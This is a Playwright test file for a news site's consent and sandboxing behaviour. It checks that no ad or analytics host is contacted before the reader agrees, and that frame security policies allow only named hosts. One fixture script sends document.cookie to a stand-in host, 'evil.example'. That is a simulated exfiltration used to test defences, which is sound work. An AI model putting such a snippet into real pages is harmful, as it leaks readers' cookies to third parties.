"""Nobody outside hears of a reader before a yes, exactly those that the paper named after it, and nobody after a no.

Everything that is no address of the paper is led to a server on this machine, which writes down who was asked for.
"""

import ssl
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from harkara.layout import pages, policy, specimens
from harkara.layout.copy import AdCopy, SpaceCopy
from harkara.layout.measuring import MeasureCopy
from tests.conftest import CHROMIUM, SWITCHES
from tests.layout import printed
from tests.layout.browser.conftest import standing

pytestmark = [pytest.mark.browser, pytest.mark.process]

MEASURE = MeasureCopy("G-TEST12345", "123456789012345")
PAPER = replace(specimens.paper(), asks="measure ads")
CODE = '<script src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js"></script>'
SPACE = SpaceCopy(
    ads=(
        AdCopy(7, SpaceCopy(markup=CODE), frame="/fragment/ad-7", asks=True),
        AdCopy(0, specimens.space(), is_house=True),
    )
)

NEAR = "--disable-features=LocalNetworkAccessChecks"
"""The world outside is on this machine, of which a browser else knows better."""

GTAG = """
const { client_id, page_location } = dataLayer[1][2];
const said = new URLSearchParams({ v: "2", cid: client_id, dl: page_location, cookie: document.cookie });
for (const host of ["region1.google-analytics.com", "evil.example"])
  fetch(`https://${host}/g/collect?${said}`, { method: "POST", mode: "no-cors" }).catch(() => {});
"""
"""What a script of Google's name does: it tells its own, and tries to tell somebody else."""


class Outside:
    """The world outside, on this machine: who was asked for, in order."""

    def __init__(self, folder: Path) -> None:
        self.asked: list[tuple[str, str]] = []
        outside = self

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outside.asked.append((self.headers["host"], self.path))
                is_script = "/gtag/js" in self.path
                body = GTAG.encode() if is_script else b""
                self.send_response(200 if is_script else 204)
                self.send_header("content-type", "text/javascript" if is_script else "text/plain")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815 (its name in the library)

            def log_message(self, *_: Any) -> None:
                pass

        words = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=outside"]
        files = [str(folder / "key.pem"), str(folder / "certificate.pem")]
        subprocess.run([*words, "-keyout", files[0], "-out", files[1]], check=True, capture_output=True)
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(files[1], files[0])
        self.server.socket = context.wrap_socket(
            self.server.socket, server_side=True, do_handshake_on_connect=False
        )  # in the thread of each: a browser opens lines that it may never use
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def hosts(self) -> list[str]:
        """The hosts that were asked, each once."""
        return sorted({host for host, _path in self.asked})


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Outside]:
    made = Outside(tmp_path)
    yield made
    made.server.shutdown()
    made.server.server_close()


def serve(route: Route) -> None:
    """What the paper hands out."""
    path = printed.path_of(route.request.url)
    html = {
        "/story": (pages.story(specimens.story(), PAPER), policy.headers()),
        "/fragment/measure": (pages.measure(MEASURE, PAPER), policy.measure_headers(MEASURE)),
        "/fragment/space-head": (pages.space(SPACE, PAPER), policy.space_headers(runs=False, picks=True)),
        "/fragment/ad-7": (pages.space(SpaceCopy(markup=CODE), PAPER, 7), policy.space_headers(runs=True)),
    }.get(path)
    if html:
        headers = {"content-type": "text/html; charset=utf-8", **dict(html[1])}
        route.fulfill(status=200, headers=headers, body=html[0].encode())
        return
    if path == "/look.css":
        route.fulfill(
            content_type="text/css",
            body="[data-scripts] #space-head{display:block;height:124px}#space-head iframe{height:100px;width:320px}",
        )
        return
    status, headers, body = printed.answer(path)
    route.fulfill(status=status, headers=headers, body=body)


@pytest.fixture
def page(chromium: Browser, outside: Outside) -> Iterator[Page]:
    """A phone that knows only the paper and the world outside."""
    rules = f"--host-resolver-rules=MAP * 127.0.0.1:{outside.server.server_port}"
    browser = chromium.browser_type.launch(executable_path=str(CHROMIUM), args=[*SWITCHES, NEAR, rules])
    context = browser.new_context(viewport={"width": 360, "height": 740}, ignore_https_errors=True)
    context.route(f"{printed.ORIGIN}/**", serve)
    yield context.new_page()
    browser.close()


def opened(page: Page) -> None:
    page.goto(f"{printed.ORIGIN}/story")
    standing(page)
    page.wait_for_load_state("networkidle")


def test_nobody_outside_hears_of_a_reader_before_a_yes_and_then_only_who_was_named(
    page: Page, outside: Outside
) -> None:
    opened(page)
    bar, place = page.locator(".consent"), page.frame_locator("#space-head iframe")
    expect(bar).to_be_visible()
    expect(place.locator("img")).to_have_attribute("alt", specimens.space().alt)  # our own, until then
    assert outside.asked == []
    assert page.evaluate("[document.cookie, Object.keys(localStorage).join()]") == ["", ""]
    yes, no = bar.locator("button").all()
    assert yes.bounding_box()["width"] == no.bounding_box()["width"]  # type: ignore[index]  # it is shown

    no.click()
    expect(bar).to_be_hidden()
    page.reload()
    standing(page)
    page.wait_for_load_state("networkidle")
    expect(bar).to_be_hidden()
    assert outside.asked == []
    assert page.evaluate("Object.entries(localStorage).join()") == "harkara:consent,no"

    page.locator(".consent-change").click()
    bar.locator("[data-say=yes]").click()
    expect(bar).to_be_hidden()
    page.wait_for_function("() => document.querySelector('iframe[src^=\"/fragment/measure\"]')")
    for _ in range(300):
        if {"region1.google-analytics.com", "www.facebook.com", "pagead2.googlesyndication.com"} <= set(outside.hosts):
            break
        page.wait_for_timeout(100)
    assert outside.hosts == [
        "pagead2.googlesyndication.com",
        "region1.google-analytics.com",
        "www.facebook.com",
        "www.googletagmanager.com",
    ]
    told = dict(outside.asked)
    canonical = quote(page.locator("link[rel=canonical]").get_attribute("href") or "", safe="")
    assert f"dl={canonical}" in told["region1.google-analytics.com"]
    assert told["region1.google-analytics.com"].endswith("cookie=")
    assert MEASURE.meta in told["www.facebook.com"]
    assert page.context.cookies() == []

    page.locator(".consent-change").click()
    outside.asked.clear()
    with page.expect_navigation():
        bar.locator("[data-say=no]").click()
    standing(page)
    page.wait_for_load_state("networkidle")
    assert outside.asked == []
    assert page.evaluate("Object.entries(localStorage).join()") == "harkara:consent,no"


def test_a_paper_that_tells_nobody_has_nothing_of_it() -> None:
    html = pages.story(specimens.story(), specimens.paper())
    assert ("consent" in html, "fragment/measure" in html) == (False, False)
    said = dict(policy.headers())["content-security-policy"]
    assert not [word for word in said.replace(";", " ").split() if "://" in word]


@pytest.mark.parametrize(
    ("measure", "hosts"),
    [
        (MeasureCopy("G-TEST12345"), {"www.googletagmanager.com", "*.google-analytics.com", "*.analytics.google.com"}),
        (MeasureCopy("", "12345"), {"www.facebook.com"}),
    ],
)
def test_the_frame_may_ask_exactly_the_hosts_of_what_is_on(measure: MeasureCopy, hosts: set[str]) -> None:
    said = dict(policy.measure_headers(measure))["content-security-policy"]
    assert {word.partition("://")[2] for word in said.replace(";", " ").split() if "://" in word} == hosts
    assert ("default-src 'none'" in said, "sandbox allow-scripts" in said, "allow-same-origin" in said) == (
        True,
        True,
        False,
    )
